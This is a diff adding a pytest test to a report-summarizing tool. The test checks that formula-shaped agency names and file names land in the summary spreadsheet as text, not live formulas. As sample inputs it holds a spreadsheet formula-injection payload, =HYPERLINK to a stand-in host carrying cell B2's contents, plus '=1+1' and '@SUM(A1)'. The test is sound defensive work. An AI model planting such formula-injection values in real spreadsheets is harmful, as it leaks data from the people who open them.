@@ -168,3 +168,23 @@ def test_a_missing_own_report_is_refused_before_any_work(tmp_path):
     proc = run("summarize", folder, "-o", out, "--own", tmp_path / "没有的本级报告.gknb")
     assert proc.returncode == 2 and "找不到" in proc.stderr and "没有的本级报告.gknb" in proc.stderr
     assert not out.exists()
+
+
+def test_agency_and_file_names_that_look_like_formulas_stay_text(tmp_path):
+    """An agency named like a formula (and a file named so) is written as text in 单位一览, never as a
+    live formula (issue 12, item 5)."""
+    from editor.io.native import write_native
+    from editor.samples import sample_report
+
+    folder = tmp_path / "下级"
+    folder.mkdir()
+    evil = '=HYPERLINK("http://example.invalid/"&B2,"x")'
+    write_native(sample_report(2024, seed=1, agency=evil), folder / "=1+1.gknb")
+    write_native(sample_report(2024, seed=2, agency="@SUM(A1)"), folder / "b.gknb")
+    out = tmp_path / "汇总.xlsx"
+    write_summary_xlsx(summarize([folder]), out)
+    wb = openpyxl.load_workbook(out)
+    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any(c.value == evil for c in texts)
+    assert any(c.value.startswith("=1+1") for c in texts)
+    assert all(c.data_type != "f" for c in texts), [c.value for c in texts if c.data_type == "f"]
